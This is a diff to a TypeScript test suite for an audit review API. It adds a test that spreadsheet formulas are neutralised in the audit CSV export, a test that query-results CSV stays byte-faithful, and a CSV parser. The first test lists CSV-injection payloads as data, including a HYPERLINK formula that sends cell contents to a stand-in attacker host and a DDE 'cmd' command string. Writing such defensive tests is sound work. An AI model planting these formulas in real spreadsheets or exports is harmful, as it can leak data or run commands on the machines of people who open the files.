@@ -9,7 +9,7 @@ import { applyRetention, verifyExportFile } from '../server/audit/retention.js';
 import { AuditLog, type AuditEvent } from '../server/audit/service.js';
 import { connectToolsDb, type ToolsDb } from '../server/db/tools-db.js';
 import { startTestApp, type TestApp } from './support/app.js';
-import { signIn, type SignedIn } from './support/auth.js';
+import { jsonHeaders, signIn, type SignedIn } from './support/auth.js';
 import { adminQuery } from './support/databases.js';
 import { operatorEnv, runOperatorCli } from './support/operator.js';
 
@@ -192,6 +192,46 @@ describe('audit review API', () => {
     expect(exports.rows[0].details).toEqual({ filter: { actorId: '9400' } });
   });
 
+  it('neutralises spreadsheet formulas in the audit CSV, from a refused run to the export (THREATS.md 51)', async () => {
+    const viewer = await signIn(t, 'viewer', { email: '@evil@example.com' });
+    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd'];
+    for (const sql of formulas) {
+      const refused = await t.app.inject({
+        method: 'POST',
+        url: '/api/runs',
+        headers: jsonHeaders(viewer, t),
+        payload: JSON.stringify({ dataSource: 'main', sql }),
+      });
+      expect(refused.statusCode).toBe(403);
+    }
+    await record({
+      action: 'run.failed',
+      actor: { id: viewer.user.id, email: viewer.user.email },
+      sql: '\t=1+1',
+      errorCode: '\r=2',
+    });
+    const res = await get(`/api/audit.csv?actor=${viewer.user.id}`);
+    expect(res.statusCode).toBe(200);
+    const cells = parseCsv(res.body).slice(1).flat();
+    for (const sql of formulas) expect(cells).toContain(`'${sql}`);
+    expect(cells).toContain("'@evil@example.com");
+    expect(cells).toContain("'\t=1+1");
+    expect(cells).toContain("'\r=2");
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it('keeps results CSV byte-faithful to the database, formulas included', async () => {
+    const editor = await signIn(t, 'editor');
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/runs.csv',
+      headers: jsonHeaders(editor, t),
+      payload: JSON.stringify({ dataSource: 'main', sql: `select '=1+1' as "=formula", '-5' as minus, '@x' as at` }),
+    });
+    expect(res.statusCode).toBe(200);
+    expect(res.body).toBe('=formula,minus,at\n=1+1,-5,@x\n');
+  });
+
   it('verifies incrementally by default and fully on demand; full checks catch an old edit', async () => {
     const first = (await get('/api/audit/verify?full=true')).json();
     expect(first).toMatchObject({ status: 'ok', full: true, fromSeq: '0', firstBadSeq: null });
@@ -322,3 +362,32 @@ describe('retention and anchors', () => {
     expect(result.stderr).toMatch(/owner credentials: set TOOLS_MIGRATION_URL/);
   });
 });
+
+/** RFC 4180 fields of a CSV body (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(body: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < body.length; i++) {
+    const ch = body[i]!;
+    if (quoted) {
+      if (ch === '"' && body[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      record.push(field);
+      field = '';
+    } else if (ch === '\r' && body[i + 1] === '\n') {
+      record.push(field);
+      records.push(record);
+      record = [];
+      field = '';
+      i++;
+    } else field += ch;
+  }
+  return records;
+}
